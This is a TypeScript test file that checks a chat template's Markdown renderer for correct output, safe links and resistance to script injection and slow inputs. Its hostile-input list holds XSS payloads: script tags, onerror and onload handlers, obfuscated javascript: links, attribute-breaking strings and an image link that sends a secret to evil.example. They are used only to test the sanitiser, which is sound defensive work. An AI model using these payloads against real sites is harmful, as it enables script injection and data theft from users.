import { createElement } from 'react'
import { renderToStaticMarkup } from 'react-dom/server'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { Markdown } from '../templates/chat/page/markdown.tsx'

const html = (text: string): string => renderToStaticMarkup(createElement(Markdown, { text }))

/** What a browser may do by itself with this HTML: elements and attributes that are not on the lists. */
function unsafeParts(markup: string): string[] {
  const tags = [...markup.matchAll(/<\/?([a-z0-9]+)((?:\s+[a-z]+(?:="[^"]*")?)*)\s*\/?>/gi)]
  return tags.flatMap(([, name = '', attributes = '']) => [
    ...(ELEMENTS.has(name) ? [] : [name]),
    ...[...attributes.matchAll(/([a-z]+)="([^"]*)"/gi)]
      .filter(([, attribute = '', value = '']) => !isSafe(attribute, value))
      .map(([all]) => all),
  ])
}

const ELEMENTS = new Set(
  'div p br hr h2 h3 h4 pre code blockquote ul ol li table thead tbody tr th td strong em del a span'.split(
    ' ',
  ),
)

function isSafe(attribute: string, value: string): boolean {
  if (attribute === 'href') return /^(?:https?:|mailto:)/.test(value)
  return ['class', 'tabindex', 'start', 'title', 'target', 'rel'].includes(attribute)
}

describe('Markdown in the page of the template chat', () => {
  test.each([
    [
      '# Order\n\nIt has **two** *items*.',
      '<h2>Order</h2><p>It has <strong>two</strong> <em>items</em>.</p>',
    ],
    ['first\nsecond', '<p>first<br/>second</p>'],
    ['3. a\n4. `b`', '<ol start="3"><li>a</li><li><code>b</code></li></ol>'],
    ['- [x] done\n- [ ] open', '<ul><li>☑ done</li><li>☐ open</li></ul>'],
    ['```js\n<b>\n```', '<pre tabindex="0"><code>&lt;b&gt;</code></pre>'],
    [
      '| a |\n| - |\n| b |',
      '<div class="table" tabindex="0"><table><thead><tr><th>a</th></tr></thead><tbody><tr><td>b</td></tr></tbody></table></div>',
    ],
    ['> quoted', '<blockquote><p>quoted</p></blockquote>'],
    ['~~no~~', '<p><del>no</del></p>'],
    ['2 < 3 & "x"', '<p>2 &lt; 3 &amp; &quot;x&quot;</p>'],
  ])('%j', (text, wanted) => expect(html(text)).toBe(`<div class="prose">${wanted}</div>`))

  test('a link opens outside, says its exact address, and tells nothing about the page', () => {
    expect(html('[shop](https://shop.example/a?b=c)')).toContain(
      '<a href="https://shop.example/a?b=c" title="https://shop.example/a?b=c" target="_blank" rel="noopener noreferrer nofollow">shop</a>',
    )
  })

  test.each([
    '<script>alert(1)</script>',
    'text <img src=x onerror=alert(1)> text',
    '<iframe src="https://evil.example"></iframe>',
    '<svg/onload=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '<style>@import "https://evil.example"</style>',
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](java\tscript:alert(1))',
    '[x]( javascript:alert(1))',
    '[x](<javascript:alert(1)>)',
    '[x](&#106;avascript:alert(1))',
    '[x](data:text/html,<script>alert(1)</script>)',
    '[x](vbscript:x) [y](file:///etc/passwd) [z](blob:https://a/b)',
    '<javascript:alert(1)>',
    '[x]: javascript:alert(1)\n\n[x]',
    '![secret](https://evil.example/?q=secret)',
    '![a][b]\n\n[b]: https://evil.example/x.png "t"',
    '[![alt](https://evil.example/x.png)](https://evil.example)',
    '# <script>x</script>\n- <b onclick=x>\n\n| <img src=x> |\n| - |\n| <svg> |',
    '[x](https://evil.example" onmouseover="alert(1))',
    '```html" onload="alert(1)\nx\n```',
  ])('hostile: %j', (text) => {
    const markup = html(text)
    expect(unsafeParts(markup)).toEqual([])
    expect(markup).not.toMatch(/<(?:img|script|iframe|svg|style)/)
  })

  test('any mixture of such pieces is safe', () => {
    const pieces =
      '<b> <script> javascript: ![ ]( ) [ < > " \' ` ``` * _ # - 1. | \n \n\n https://a.b &lt; \\ word'
    const text = fc.array(fc.constantFrom(...pieces.split(' ')), { maxLength: 30 })
    fc.assert(
      fc.property(text, (parts) => {
        expect(unsafeParts(html(parts.join('')))).toEqual([])
      }),
      { numRuns: 500 },
    )
  })

  test.each([
    '>'.repeat(20_000),
    '- '.repeat(10_000),
    '1. '.repeat(6000),
    Array.from({ length: 140 }, (_, level) => `${' '.repeat(level)}- a`).join('\n'),
    '['.repeat(20_000),
    '_a'.repeat(10_000),
    '*a '.repeat(6000),
    '[a]('.repeat(5000),
    '*_'.repeat(10_000),
    `${'|a'.repeat(5000)}\n${'|-'.repeat(5000)}`,
    'a'.repeat(10_000_000),
  ])('deep or long text takes little work and is shown (%#)', (text) => {
    const before = process.cpuUsage()
    expect(html(text).length).toBeGreaterThan(0)
    expect(process.cpuUsage(before).user / 1e6).toBeLessThan(1.5)
  })

  test('a line of dashes is a rule, and an ordinary nesting is Markdown', () => {
    expect(html('-'.repeat(80))).toContain('<hr/>')
    expect(html('> > - 1. a')).toContain('<blockquote><blockquote><ul><li><ol start="1"><li>a</li>')
  })
})
